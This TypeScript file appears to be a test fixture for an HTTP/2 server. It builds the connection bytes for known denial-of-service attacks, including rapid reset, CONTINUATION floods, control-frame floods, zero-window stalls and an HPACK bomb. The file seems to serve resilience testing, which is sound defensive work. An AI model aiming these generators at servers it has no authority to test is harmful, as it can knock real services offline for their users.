// SPDX-License-Identifier: Apache-2.0
// The known ways to make an HTTP/2 server work for nothing, each as the bytes of one connection: how it begins, and what
// follows again and again for as long as the server listens.
import { FrameType, PREFACE, SettingId } from '#lib/wire/h2/protocol.ts';
import { block, dataFrame, frame, headers, resetFrame, settingsFrame, windowFrame } from '../h2-peer.ts';

/** Fields of a request that the server takes. */
export type Request = readonly (readonly [name: string, value: string])[];

/** One connection of an attacker. */
export interface Assault {
  readonly begin: Buffer;
  /** The next bytes; undefined: there is no more to say, hold the connection open. */
  next(): Buffer | undefined;
}

const CANCEL = 8;
const END_HEADERS = 4;

const times = (count: number, make: (i: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, i) => make(i)));
const greeting = (...settings: readonly (readonly [number, number])[]): Buffer =>
  Buffer.concat([PREFACE, settingsFrame(settings), frame(FrameType.settings, 1, 0)]);
const opened = (request: Request, ...settings: readonly (readonly [number, number])[]): Buffer =>
  Buffer.concat([greeting(...settings), headers(1, request)]);

/** Numbers of streams that were not used before. */
function streams(): () => number {
  let id = -1;
  return () => {
    id += 2;
    return id;
  };
}

/** The same bytes for ever. */
const again = (begin: Buffer, bytes: Buffer): Assault => ({ begin, next: () => bytes });

const LONG = Buffer.alloc(1000, 'x').toString();

/** Attacks that speak HTTP/2, by name. */
export const ATTACKS: ReadonlyMap<string, (request: Request) => Assault> = new Map<
  string,
  (request: Request) => Assault
>([
  [
    'rapid reset',
    (request) => {
      const id = streams();
      const one = (): Buffer => {
        const stream = id();
        return Buffer.concat([headers(stream, request), resetFrame(stream, CANCEL)]);
      };
      return { begin: greeting(), next: () => times(100, one) };
    },
  ],
  [
    'made to reset',
    (request) => {
      const id = streams();
      const one = (): Buffer => {
        const stream = id();
        return Buffer.concat([headers(stream, request), windowFrame(stream, 0)]);
      };
      return { begin: greeting(), next: () => times(100, one) };
    },
  ],
  [
    'CONTINUATION',
    (request) => {
      const start = frame(FrameType.headers, 0, 1, block(request));
      const more = frame(FrameType.continuation, 0, 1, block([['a', 'b']]));
      return again(
        Buffer.concat([greeting(), start]),
        times(1000, () => more),
      );
    },
  ],
  [
    'empty CONTINUATION',
    (request) => {
      const start = frame(FrameType.headers, 0, 1, block(request));
      return again(
        Buffer.concat([greeting(), start]),
        times(1000, () => frame(FrameType.continuation, 0, 1)),
      );
    },
  ],
  [
    'SETTINGS',
    () =>
      again(
        greeting(),
        times(1000, () => settingsFrame([[SettingId.initialWindowSize, 1 << 16]])),
      ),
  ],
  [
    'PING',
    () =>
      again(
        greeting(),
        times(1000, () => frame(FrameType.ping, 0, 0, '0000000000000000')),
      ),
  ],
  [
    'PRIORITY',
    () =>
      again(
        greeting(),
        times(1000, () => frame(FrameType.priority, 0, 3, '0000000010')),
      ),
  ],
  [
    'empty DATA',
    (request) =>
      again(
        opened(request),
        times(1000, () => dataFrame(1, Buffer.alloc(0))),
      ),
  ],
  [
    'WINDOW_UPDATE',
    (request) =>
      again(
        opened(request),
        times(500, () => Buffer.concat([windowFrame(1, 1), windowFrame(0, 1)])),
      ),
  ],
  [
    'stopped readers',
    (request) => {
      const id = streams();
      const many = times(100, () => headers(id(), request, request[0]![1] === 'GET'));
      return {
        begin: Buffer.concat([greeting([SettingId.initialWindowSize, 0]), many]),
        next: () => undefined,
      };
    },
  ],
  [
    'oversize headers',
    (request) => {
      const id = streams();
      const fat = block([...request, ...Array.from({ length: 100 }, (_, i) => [`x-${i}`, LONG] as const)]);
      const parts = (stream: number): Buffer => {
        const frames: Buffer[] = [];
        for (let at = 0; at < fat.length; at += 16_384) {
          const last = at + 16_384 >= fat.length;
          const type = at === 0 ? FrameType.headers : FrameType.continuation;
          frames.push(frame(type, last ? END_HEADERS : 0, stream, fat.subarray(at, at + 16_384)));
        }
        return Buffer.concat(frames);
      };
      return { begin: greeting(), next: () => parts(id()) };
    },
  ],
  [
    'HPACK bomb',
    (request) => {
      const id = streams();
      // A field of almost 4 KiB goes into the table; one octet each names it again.
      const value = Buffer.alloc(3900, 'y');
      const named = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0xbd, 0x1d]), value]);
      const bomb = Buffer.concat([block(request), named, Buffer.alloc(10_000, 0xbe)]);
      return { begin: greeting(), next: () => frame(FrameType.headers, END_HEADERS | 1, id(), bomb) };
    },
  ],
  [
    'nonsense',
    () => {
      const bytes = Buffer.alloc(16_384);
      for (let i = 0; i < bytes.length; i++) bytes[i] = (i * 167 + (i >> 3) * 31) & 0xff;
      return again(greeting(), bytes);
    },
  ],
]);

/** Attacks before HTTP/2: connections that are opened, or shaken hands on, and closed at once. */
export const KNOCKS = ['many handshakes', 'many connections', 'handshakes of nonsense'] as const;
export type Knock = (typeof KNOCKS)[number];
